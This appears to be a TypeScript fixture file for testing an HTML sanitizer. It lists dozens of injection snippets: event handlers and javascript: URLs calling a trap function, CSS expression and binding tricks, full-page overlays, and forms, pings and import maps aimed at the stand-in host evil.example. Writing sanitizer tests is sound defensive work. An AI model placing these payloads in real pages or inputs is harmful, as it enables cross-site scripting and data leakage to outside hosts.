/** HTML elements and attributes that load, submit or run something, or style the page. */
export const ELEMENTS = {
  'image that fails': '<img src=x onerror=trapped(0)>',
  'image that loads': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=trapped(0)>',
  'image by its old name': '<image src=x onerror=trapped(0)>',
  'image with sources': '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x" src="./a.jpg">',
  'image with a low source': '<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b src="./a.jpg">',
  'image with a long description': '<img longdesc="javascript:trapped(0)" usemap="#x" src="./a.jpg" alt=x>',
  'image with a lazy source':
    '<img loading=lazy data-src=https://evil.example/a src=https://evil.example/b crossorigin>x',
  picture:
    '<picture><source srcset=https://evil.example/a onerror=trapped(0)><img src="./a.jpg" onload=trapped(0)></picture>',
  map: '<img src="./a.jpg" usemap=#m><map name=m><area shape=default href="javascript:trapped(0)"></map>x',
  video: '<video src=x onerror=trapped(0) poster=https://evil.example/a autoplay></video>x',
  'video with a source': '<video><source src=x onerror=trapped(0)><track default src=https://evil.example/t></video>x',
  audio: '<audio src=x onerror=trapped(0) autoplay controls></audio>x',
  object: '<object data="javascript:trapped(0)"></object>x',
  'object of another host':
    '<object data=https://evil.example/a><param name=src value=https://evil.example/b></object>x',
  'object that fails': '<object data=x onerror=trapped(0)><img src=x onerror=trapped(0)></object>',
  embed: '<embed src="javascript:trapped(0)">x',
  'embed of another host': '<embed src=https://evil.example/a onload=trapped(0)>x',
  applet: '<applet code=x archive=https://evil.example/a></applet>x',
  'portal and fenced frame':
    '<portal src=https://evil.example></portal><fencedframe src=https://evil.example></fencedframe>x',
  form: '<form action="javascript:trapped(0)"><button>x</button></form>',
  'form of another host':
    '<form action=https://evil.example method=post><input name=a value=b><button>x</button></form>',
  'form that submits': '<form onsubmit=trapped(0)><input type=submit value=x></form>',
  'button with an action': '<form id=f></form><button form=f formaction="javascript:trapped(0)">x</button>',
  'button that shows a popover':
    '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=trapped(0)>y</div>',
  'button with a command':
    '<button commandfor=p command=show-popover>x</button><div popover id=p ontoggle=trapped(0)>y</div>',
  'input that takes the focus': '<input autofocus onfocus=trapped(0)>x',
  'input that is an image': '<input type=image src=https://evil.example/a onerror=trapped(0)>x',
  'input that changes': '<input type=checkbox checked onclick=trapped(0) onchange=trapped(0)>x',
  'input of a password': '<input type=password name=password autocomplete=current-password>x',
  'input that is enabled again': '<ul><li><input type=checkbox type=text disabled=false name=a> x</li></ul>',
  select: '<select autofocus onfocus=trapped(0)><option onclick=trapped(0)>x</select>',
  keygen: '<keygen autofocus onfocus=trapped(0)>x',
  marquee: '<marquee onstart=trapped(0) onscroll=trapped(0)>x</marquee>',
  'background of a table':
    '<table background=https://evil.example/a onclick=trapped(0)><tr><td background=//evil.example/b>x</table>',
  'style that loads': '<p style="background:url(https://evil.example/a)">x</p>',
  'style that runs':
    '<p style="width:expression(trapped(0));behavior:url(//evil.example);-moz-binding:url(//evil.example)">x</p>',
  'style that covers the page':
    '<div style="position:fixed;inset:0;z-index:9999"><a href="https://a.example">x</a></div>',
  'style in escapes': '<p style="b\\61 ckground:\\75rl(https://evil.example/a)">x</p>',
  'animation that starts':
    '<style>@keyframes a{}</style><b style="animation:a 1ms" onanimationstart=trapped(0) onanimationend=trapped(0)>x</b>',
  'transition that ends':
    '<b style="transition:color 1ms" ontransitionend=trapped(0) onfocus=trapped(0) tabindex=0>x</b>',
  'link with a ping': '<a href="#a" ping=https://evil.example/ping>x</a>',
  'link with a target': '<a href=https://a.example target=_blank rel=opener download=x>x</a>',
  'link with an event': '<a href="https://a.example" onclick="trapped(0);return false" onauxclick=trapped(0)>x</a>',
  'link with attribution': '<a href=#x attributionsrc=https://evil.example/a hreflang="javascript:trapped(0)">x</a>',
  'quote with a source':
    '<blockquote cite="javascript:trapped(0)">x</blockquote><q cite="data:text/html,x">y</q><ins cite="vbscript:x">z</ins>',
  'item with a scope': '<div itemscope itemtype="javascript:trapped(0)" itemid=//evil.example itemprop=x>x</div>',
  'text that is edited': '<div contenteditable autofocus onfocus=trapped(0) oninput=trapped(0)>x</div>',
  'element that is dragged': '<div draggable=true ondragstart=trapped(0) ondrop=trapped(0)>x</div>',
  'element of its own': '<x-y is=z-y onclick=trapped(0)>x</x-y><b is=x-y slot=a part=b exportparts=c>y</b>',
  'access key': '<b accesskey=x onclick=trapped(0) tabindex=1>x</b>',
  'pointer over': '<b onmouseover=trapped(0) onpointerenter=trapped(0) onpointerrawupdate=trapped(0)>x</b>',
  'content that shows':
    '<b oncontentvisibilityautostatechange=trapped(0) style="display:block;content-visibility:auto">x</b>',
  'class of the page': '<p class="entry-section timeline page" id=page data-benchmark-chart>x</p>',
  'hidden input in a popover':
    '<input type=hidden oncontentvisibilityautostatechange=trapped(0) style=content-visibility:auto>x',
  'script that speculates': '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>x',
  'script that maps imports': '<script type=importmap>{"imports":{"x":"https://evil.example/"}}</script>x',
  'bgsound and layer':
    '<bgsound src=https://evil.example/a><layer src=https://evil.example/b></layer><xss onclick=trapped(0)>x</xss>',
} as const;
